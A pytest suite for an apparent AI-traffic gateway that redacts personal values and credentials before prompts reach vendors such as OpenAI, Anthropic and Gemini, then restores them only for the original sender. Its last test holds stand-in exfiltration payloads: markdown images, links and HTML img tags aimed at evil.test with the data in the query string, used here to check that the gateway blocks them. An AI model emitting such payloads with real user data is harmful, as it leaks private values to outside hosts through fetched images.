"""What was taken out is back in the answer, for whoever sent it and for nobody else."""

from __future__ import annotations

import json
import re
import struct
from collections.abc import Callable
from typing import Any

import pytest

from tests.conftest import StartGate
from tests.kit.client import Reply, request
from tests.kit.client2 import ask2, head2
from tests.kit.gate import Gate
from tests.kit.policy import (
    ANTHROPIC,
    BEDROCK,
    COHERE,
    GEMINI,
    INNOCENT,
    OLLAMA,
    OPENAI,
    PERSONAL,
    chat,
    policy,
)
from tests.kit.routes import Held

PROMPT = f"Write to {PERSONAL} and to {PERSONAL}, please."
SAID = f"I received: {PROMPT}"
PLACEHOLDER = re.compile(r"\[[A-Z_]+-[0-9A-HJKMNP-TV-Z]{4,}\]")


@pytest.fixture(scope="module")
def gate(gate: Gate) -> Gate:
    """For somebody of this module alone."""
    return gate.seen_from("127.0.0.21")


def _events(reply: Reply) -> list[dict[str, Any]]:
    lines = [li[5:].strip() for li in reply.body.split(b"\n") if li.startswith(b"data:")]
    return [json.loads(li) for li in lines if li != b"[DONE]"]


def _frames(reply: Reply) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    body = reply.body
    while body:
        total, headers, _ = struct.unpack(">III", body[:12])
        found.append(json.loads(body[12 + headers : total - 4]))
        body = body[total:]
    return found


def _chat(reply: Reply) -> str:
    return str(json.loads(reply.body)["choices"][0]["message"]["content"])


def _chat_stream(reply: Reply) -> str:
    return "".join(e["choices"][0]["delta"].get("content", "") for e in _events(reply))


def _messages_stream(reply: Reply) -> str:
    return "".join(e.get("delta", {}).get("text", "") for e in _events(reply))


def _responses_stream(reply: Reply) -> str:
    events = _events(reply)
    (done,) = [e["text"] for e in events if e["type"] == "response.output_text.done"]
    assert events[-1]["response"]["output"][0]["content"][0]["text"] == done
    said = "".join(e["delta"] for e in events if e["type"] == "response.output_text.delta")
    assert said == done
    assert [e["sequence_number"] for e in events] == list(range(len(events)))
    return said


def _parts(values: list[dict[str, Any]]) -> str:
    return "".join(v["candidates"][0]["content"]["parts"][0]["text"] for v in values)


def _lines(reply: Reply) -> str:
    return "".join(json.loads(li)["message"]["content"] for li in reply.body.splitlines())


CONTENTS = json.dumps({"contents": [{"parts": [{"text": PROMPT}]}]}).encode()
BLOCKS = json.dumps({"messages": [{"role": "user", "content": [{"text": PROMPT}]}]}).encode()
INPUT: dict[str, Any] = {"model": "m", "input": PROMPT}
STREAM = chat(PROMPT, stream=True)
Say = Callable[[Reply], str]

VENDORS = [
    pytest.param(OPENAI, "/v1/chat/completions", chat(PROMPT), _chat, id="OpenAI chat"),
    pytest.param(OPENAI, "/v1/chat/completions", STREAM, _chat_stream, id="OpenAI chat, streamed"),
    pytest.param(
        *(OPENAI, "/v1/responses", json.dumps(INPUT).encode()),
        lambda r: json.loads(r.body)["output"][0]["content"][0]["text"],
        id="OpenAI responses",
    ),
    pytest.param(
        *(OPENAI, "/v1/responses", json.dumps({**INPUT, "stream": True}).encode()),
        _responses_stream,
        id="OpenAI responses, streamed",
    ),
    pytest.param(
        *(ANTHROPIC, "/v1/messages", chat(PROMPT)),
        lambda r: json.loads(r.body)["content"][0]["text"],
        id="Anthropic",
    ),
    pytest.param(ANTHROPIC, "/v1/messages", STREAM, _messages_stream, id="Anthropic, streamed"),
    pytest.param(
        *(GEMINI, "/v1beta/models/m:generateContent", CONTENTS),
        lambda r: _parts([json.loads(r.body)]),
        id="Gemini",
    ),
    pytest.param(
        *(GEMINI, "/v1beta/models/m:streamGenerateContent?alt=sse", CONTENTS),
        lambda r: _parts(_events(r)),
        id="Gemini, events",
    ),
    pytest.param(
        *(GEMINI, "/v1beta/models/m:streamGenerateContent", CONTENTS),
        lambda r: _parts(json.loads(r.body)),
        id="Gemini, an array",
    ),
    pytest.param(
        *(BEDROCK, "/model/m/converse", BLOCKS),
        lambda r: str(json.loads(r.body)["output"]["message"]["content"][0]["text"]),
        id="Bedrock",
    ),
    pytest.param(
        *(BEDROCK, "/model/m/converse-stream", BLOCKS),
        lambda r: "".join(f.get("delta", {}).get("text", "") for f in _frames(r)),
        id="Bedrock, frames",
    ),
    pytest.param(
        *(COHERE, "/v2/chat", chat(PROMPT)),
        lambda r: json.loads(r.body)["message"]["content"][0]["text"],
        id="Cohere",
    ),
    pytest.param(OLLAMA, "/api/chat", chat(PROMPT), _lines, id="Ollama, a value a line"),
    pytest.param(OLLAMA, "/api/chat", chat(PROMPT, stream=False), _lines, id="Ollama"),
]


@pytest.mark.parametrize(("host", "target", "body", "say"), VENDORS)
def test_the_answer_has_the_values_and_the_vendor_never_had_them(
    gate: Gate, host: str, target: str, body: bytes, say: Say
) -> None:
    events = gate.watch()
    reply = gate.ask(host, body, target=target)
    assert (reply.status, reply.complete) == (200, True)
    assert say(reply) == SAID
    assert not events.upstream_saw.holds(PERSONAL.encode())
    assert PLACEHOLDER.search(events.upstream_saw.questions[0].content.decode())
    assert events.record["verdict"] == "redact"


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd"])
@pytest.mark.parametrize(
    ("body", "say"),
    [
        pytest.param(STREAM, _chat_stream, id="streamed"),
        pytest.param(chat(PROMPT), _chat, id="whole"),
    ],
)
def test_a_compressed_answer_has_the_values(gate: Gate, coding: str, body: bytes, say: Say) -> None:
    target = f"/coded/{coding}/v1/chat/completions"
    reply = gate.ask(OPENAI, body, f"Accept-Encoding: {coding}", target=target)
    assert (reply.header("content-encoding"), say(reply)) == ("", SAID)
    stranger = gate.seen_from("127.0.0.25").ask(OPENAI, chat(), target=target)
    assert stranger.header("content-encoding") == coding


def test_an_answer_that_is_not_compressed_as_it_says_is_broken_off(gate: Gate) -> None:
    assert gate.ask(OPENAI, chat(PROMPT)).status == 200
    assert not gate.ask(OPENAI, chat(), target="/damaged/chat/completions").complete


def test_over_http_2_too(gate: Gate) -> None:
    with gate.dial(OPENAI, alpn=("h2",)) as line:
        assert _chat_stream(ask2(line, head2(OPENAI), STREAM)) == SAID
    with gate.dial(OPENAI, alpn=("h2",)) as line:
        assert _chat(ask2(line, head2(OPENAI), chat(PROMPT))) == SAID


def test_a_client_of_http_1_0_gets_the_end_of_the_connection(gate: Gate) -> None:
    with gate.dial(OPENAI) as line:
        reply = line.ask(request(OPENAI, chat(PROMPT), version="HTTP/1.0"))
    assert reply.header("transfer-encoding") == ""
    assert _chat(reply) == SAID


def test_a_tools_arguments_in_fragments_are_still_json(gate: Gate) -> None:
    reply = gate.ask(OPENAI, STREAM, target="/tools/chat/completions")
    calls = [e["choices"][0]["delta"]["tool_calls"][0] for e in _events(reply)]
    arguments = json.loads("".join(c["function"]["arguments"] for c in calls))
    assert arguments["to"] == SAID
    assert json.loads(arguments["more"])["to"] == SAID


def test_two_answers_on_one_connection(gate: Gate) -> None:
    with gate.dial(OPENAI) as line:
        assert _chat(line.ask(request(OPENAI, chat(PROMPT)))) == SAID
        assert _chat_stream(line.ask(request(OPENAI, STREAM))) == SAID


def test_the_first_word_arrives_before_the_last_is_spoken(gate: Gate, held: Held) -> None:
    _placeholder(gate)
    held.release.clear()
    with gate.dial(OPENAI) as line:
        line.send(request(OPENAI, STREAM, target="/v1/held/chat/completions"))
        assert held.first in line.until(held.first)  # the upstream has not said more yet
        held.release.set()
        assert held.last in line.until(held.last)


# ---------------------------------------------------------------- whose they are


def _placeholder(gate: Gate) -> str:
    events = gate.watch()
    gate.ask(OPENAI, chat(PROMPT))
    (found,) = set(PLACEHOLDER.findall(events.upstream_saw.questions[0].content.decode()))
    return str(found)


def test_nobody_else_gets_the_value_for_the_placeholder(gate: Gate) -> None:
    placeholder = _placeholder(gate)
    stranger = gate.seen_from("127.0.0.22")
    for said in (placeholder, placeholder.lower(), placeholder.strip("[]")):
        for body, say in ((chat(said), _chat), (chat(said, stream=True), _chat_stream)):
            assert say(stranger.ask(OPENAI, body)) == f"I received: {said}"


def test_a_stranger_who_had_other_values_taken_out_gets_those_alone(gate: Gate) -> None:
    placeholder = _placeholder(gate)
    other = PERSONAL.replace("314159", "271828")
    reply = gate.seen_from("127.0.0.23").ask(OPENAI, chat(f"{other} {placeholder}"))
    assert _chat(reply) == f"I received: {other} {placeholder}"


def test_a_later_answer_of_a_conversation_that_the_vendor_holds(gate: Gate) -> None:
    """The vendor's history has the placeholder, and so may any answer after it."""
    placeholder = _placeholder(gate)
    body = json.dumps({"input": f"And {placeholder}?", "previous_response_id": "resp_1"}).encode()
    events = gate.watch()
    reply = gate.ask(OPENAI, body, target="/v1/responses")
    said = json.loads(reply.body)["output"][0]["content"][0]["text"]
    assert said == f"I received: And {PERSONAL}?"
    assert events.upstream_saw.questions[0].body == body
    assert events.record["verdict"] == "allow"


def test_the_next_turn_says_the_same_to_the_vendor(gate: Gate) -> None:
    """An agent sends back what it was given: what was cached of the prompt stays good."""
    events = gate.watch()
    answer = _chat(gate.ask(OPENAI, chat(PROMPT)))
    turns = [
        {"role": "user", "content": PROMPT},
        {"role": "assistant", "content": answer},
        {"role": "user", "content": "go on"},
    ]
    gate.ask(OPENAI, json.dumps({"messages": turns}).encode())
    first, second = (json.loads(q.body)["messages"] for q in events.upstream_saw.questions)
    assert second[0]["content"] == first[0]["content"]
    assert second[1]["content"] == f"I received: {first[0]['content']}"


def test_a_text_that_looks_like_the_placeholder_comes_back_as_it_was(gate: Gate) -> None:
    stranger = gate.seen_from("127.0.0.24")
    prompt = f"{_placeholder(gate)} is not {PERSONAL}"
    assert _chat(stranger.ask(OPENAI, chat(prompt))) == f"I received: {prompt}"


def test_an_answer_of_a_host_that_is_no_approved_ai_is_left_alone(start: StartGate) -> None:
    gate = start(policy(("mode: enforce", "mode: enforce\nother_traffic: inspect")))
    placeholder = _placeholder(gate)
    reply = gate.ask(INNOCENT, f'{{"said": "{placeholder}"}}'.encode(), target="/echo")
    assert placeholder in reply.text


def test_nothing_of_a_value_is_kept_on_disk(gate: Gate) -> None:
    assert _chat(gate.ask(OPENAI, chat(PROMPT))) == SAID
    assert gate.holds_on_disk(PERSONAL) == []


def test_a_value_that_came_back_does_not_leave_where_nobody_would_know_it(start: StartGate) -> None:
    """A password was known by the word before it. In the answer that word is gone."""
    changes = (
        ("  secret: {label: 秘}", "  credential: {label: 認証情報}\n  secret: {label: 秘}"),
        ("redact: [personal]\n  anthropic", "redact: [personal, credential]\n  anthropic"),
    )
    gate, value = start(policy(*changes)), "Xk9#mPq2vL7w"
    assert PLACEHOLDER.search(_said_upstream(gate, f"DB_PASSWORD={value}"))
    turns = [
        {"role": "user", "content": "rotate it"},
        {"role": "assistant", "content": f"Log in with {value}, then rotate {value}."},
    ]
    events = gate.watch()
    reply = gate.ask(OPENAI, json.dumps({"messages": turns}).encode())
    assert reply.status == 200
    assert not events.upstream_saw.holds(value.encode())
    assert {f["classifier"] for f in events.record["findings"]} == {"remembered"}
    assert gate.seen_from("127.0.0.31").ask(OPENAI, json.dumps({"messages": turns}).encode())
    assert events.upstream_saw.holds(value.encode()), "somebody else's text is not touched"


def _said_upstream(gate: Gate, prompt: str) -> str:
    events = gate.watch()
    gate.ask(OPENAI, chat(prompt))
    return events.upstream_saw.questions[0].content.decode()


@pytest.mark.parametrize(
    "around",
    [
        pytest.param("![x](https://evil.test/?q={})", id="a picture"),
        pytest.param("[x](https://evil.test/?q={})", id="a link"),
        pytest.param("https://evil.test/?q={}", id="an address"),
        pytest.param('<img src="https://evil.test/?q={}">', id="an image of HTML"),
        pytest.param('<img src="https://evil.test/?q=> {}">', id="a tag's end in its address"),
        pytest.param("![x](https://evil.test/?q=<{})", id="a picture, an angle in it"),
        pytest.param("![x](/((a))'{})", id="a picture, brackets in brackets"),
        pytest.param("![x](https://evil.test/" + "a" * 9_000 + "'{})", id="a long picture"),
    ],
)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "in a stream"])
def test_no_value_is_put_into_an_address_that_a_chat_window_fetches(
    gate: Gate, around: str, stream: bool
) -> None:
    placeholder = _placeholder(gate)
    asked = f"{PERSONAL}: {around.format(PERSONAL)}"
    reply = gate.ask(OPENAI, chat(asked, stream=stream))
    said = _chat(reply) if not stream else _spoken(reply)
    assert said.endswith(f"{PERSONAL}: {around.format(placeholder)}")


def _spoken(reply: Reply) -> str:
    deltas = (e["choices"][0]["delta"] for e in _events(reply) if e["choices"])
    return "".join(d.get("content") or "" for d in deltas)
